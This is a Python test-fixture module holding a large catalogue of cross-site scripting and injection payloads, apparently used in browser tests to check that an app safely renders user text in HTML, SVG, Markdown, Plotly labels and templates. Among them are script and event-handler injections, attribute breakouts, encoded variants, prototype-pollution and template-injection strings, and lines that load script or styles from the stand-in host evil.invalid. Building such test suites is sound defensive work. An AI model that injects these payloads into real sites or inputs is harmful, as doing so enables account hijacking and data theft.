"""Hostile words for every place where words are drawn or written.

Each payload that could run a script calls `pwned()`, sets the document's title, asks `evil.invalid` or opens a dialog, so that a
browser test sees it by `HEARING`, by its log of requests, or by a dialog. `ATTACKS` holds them all; each is one line of at most
300 letters and holds no lone surrogate, so that it can stand in any field.
"""

TAGS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=https://evil.invalid/x.js></script>",
    "<script/x>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=x onerror=pwned()>",
    "<img src=https://evil.invalid/pixel.gif>",
    "<img/src='x'/onerror='pwned()'>",
    "<img src=x onerror=&#112;wned()>",
    "<body onload=pwned()>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.pwned()&gt;'></iframe>",
    "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
    "<embed src=https://evil.invalid/x.swf>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()><option>x</select>",
    "<marquee onstart=pwned()>x</marquee>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button>send</button></form>",
    "<form id=filter><input name=parentNode></form><a id=data></a>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>body{background:url(https://evil.invalid/x.png)}</style>",
    "<div style='background:url(https://evil.invalid/y.png)'>x</div>",
    "<div style='animation:x 1s' onanimationstart=pwned()>x</div>",
    "<template><script>pwned()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=pwned()></template>",
    "<b onmouseover=pwned()>bold</b><a href=x onclick=pwned()>x</a>",
)
VECTORS = (
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text y='20'>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:pwned()></svg>",
    "<svg><use href='https://evil.invalid/x.svg#a'/></svg>",
    "<svg><image href='https://evil.invalid/x.png'/></svg>",
    "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
    "</text><script>pwned()</script><text>",
    "</title><script>pwned()</script>",
    "</desc></svg><script>pwned()</script>",
    "<math><mtext><script>pwned()</script></mtext></math>",
    "<math href='javascript:pwned()'>x</math>",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
    "<!--><img src=x onerror=pwned()>-->",
    "<textarea></textarea><img src=x onerror=pwned()>",
    "<xmp></xmp><img src=x onerror=pwned()>",
    "<table><td><svg><desc><td></desc><img src=x onerror=pwned()>",
)
BREAKOUTS = (
    "</script><script>pwned()</script>",
    "</script ><img src=x onerror=pwned()>",
    "<!--<script>pwned()//-->",
    "</style><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "<![CDATA[<script>pwned()</script>]]>",
    "<?xml-stylesheet href='https://evil.invalid/x.xsl'?>",
    '<!DOCTYPE x [<!ENTITY a SYSTEM "https://evil.invalid/x">]>&a;',
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    '" onmouseover="pwned()" x="',
    "' onfocus='pwned()' autofocus='",
    "` onerror=pwned() `",
    "'-pwned()-'",
    '";pwned();//',
    '\\";pwned();//',
    "${pwned()}",
    "\u2028pwned()\u2029",
    '"},"x":{"html":"<img src=x onerror=pwned()>"}',
    '{"__proto__":{"html":"<img src=x onerror=pwned()>"}}',
    "__proto__",
    "constructor",
)
ENTITIES = (
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "&#x3c;img src=x onerror=pwned()&#x3e;",
    "&amp;lt;img src=x onerror=pwned()&amp;gt;",
    "&lt&NewLine;img src=x onerror=pwned()&gt",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "＜script＞pwned()＜/script＞",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
)
PLOTLY = (
    "<a href='javascript:pwned()'>click</a>",
    "<a href='https://evil.invalid/' target='_self'>click</a>",
    '<a href="data:text/html,<script>pwned()</script>">click</a>',
    "<b>bold</b><i>italic</i><sup>up</sup><sub>down</sub><br>line",
    "<span style='fill:url(https://evil.invalid/#a)'>x</span>",
    "<extra></extra><b>%{customdata}</b>",
    "%{text}%{customdata[0]}%{fullData.name}%{x|%Y}",
    "%{x:<img src=x onerror=pwned()>}",
    "$\\href{javascript:pwned()}{x}$",
    "$$\\unicode{<img src=x onerror=pwned()>}$$",
)
TEMPLATES = (
    "{data}{plotly}{boot}{policy}{look}",
    "{{constructor.constructor('pwned()')()}}",
    "{% include 'https://evil.invalid/' %}",
    "<%= pwned() %>#{pwned()}",
    "\\g<1>\\1{title}",
)
MARKDOWN = (
    "[click](javascript:pwned())",
    "![x](https://evil.invalid/x.png)",
    "[x]: https://evil.invalid/ 'x'",
    "<https://evil.invalid/>",
    "https://evil.invalid/plain",
    "| a | b |<script>pwned()</script>| c |",
    "`<img src=x onerror=pwned()>`",
    ":material/warning: :red[<img src=x onerror=pwned()>]",
)
UNSEEN = (
    "\u202e<script>pwned()</script>\u202c",
    "<scr\u200bipt>pwned()</scr\u200bipt>",
    "\ufeff<img src=x onerror=pwned()>",
    "<img\x0bsrc=x\x0conerror=pwned()>",
    "<scr\x00ipt>pwned()</scr\x00ipt>",
    "\u2066\u2067'><svg onload=pwned()>\u2069",
    "<ſcript>pwned()</ſcript><K onload=pwned()>",
)
ADDRESSES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " java\tscript:pwned()",
    "\x01javascript:pwned()",
    "javascript&colon;pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    "view-source:javascript:pwned()",
    "blob:https://evil.invalid/x",
    "//evil.invalid/x",
    "\\\\evil.invalid\\x",
    "https:javascript:pwned()",
    "https://",
)
# An address that stays a link; what follows must not leave its attribute.
QUOTING_ADDRESS = "https://safe.invalid/?a=1\"onmouseover=\"pwned()\"'onclick='pwned()'><script>pwned()</script>"

ATTACKS = TAGS + VECTORS + MUTATIONS + BREAKOUTS + ENTITIES + PLOTLY + TEMPLATES + MARKDOWN + UNSEEN + ADDRESSES

# Run in a page before anything else: what a payload calls is counted in `window.pwnedTimes`.
HEARING = "window.pwnedTimes = 0; window.pwned = () => { window.pwnedTimes += 1; };"
# Elements and attributes that none of our files holds, so one that is there came out of a payload.
FOREIGN = (
    "img:not([src^='data:']), iframe, object, embed, video, audio, marquee, base, math, foreignObject, link[rel=stylesheet], "
    "form[action], meta[http-equiv=refresh], [onerror], [onload], [onclick], [onmouseover], [onfocus], [ontoggle], [onbegin], "
    "a[href^='javascript' i], a[href^='data' i], a[href*='evil.invalid']"
)
